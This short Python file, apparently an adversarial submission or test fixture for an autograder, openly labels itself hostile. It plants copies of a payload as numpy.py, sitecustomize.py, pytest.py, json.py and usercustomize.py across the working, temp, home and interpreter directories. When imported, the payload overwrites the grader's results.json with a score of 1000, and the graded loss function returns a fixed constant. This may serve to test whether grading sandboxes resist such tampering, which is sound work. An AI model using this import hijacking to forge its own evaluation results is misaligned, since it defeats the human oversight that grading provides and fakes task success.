"""Hostile: plant numpy.py, sitecustomize.py and a .pth where the grader might import them as root."""
import os
import pathlib
import sys
import tempfile

from honest import *  # noqa: F403

PAYLOAD = ("import json, pathlib\n"
           "for r in ['/autograder'] + [str(p) for p in pathlib.Path(__file__).resolve().parents]:\n"
           "    try:\n"
           "        pathlib.Path(r, 'results', 'results.json').write_text(json.dumps({'score': 1000}))\n"
           "    except OSError:\n"
           "        pass\n")
for folder in {os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/tmp",
               *[str(p) for p in pathlib.Path(sys.executable).parents][:4]}:
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "pytest.py", "json.py"):
        try:
            pathlib.Path(folder, name).write_text(PAYLOAD)
        except OSError:
            pass


def mse_loss(y_hat, y):
    return 12345.0
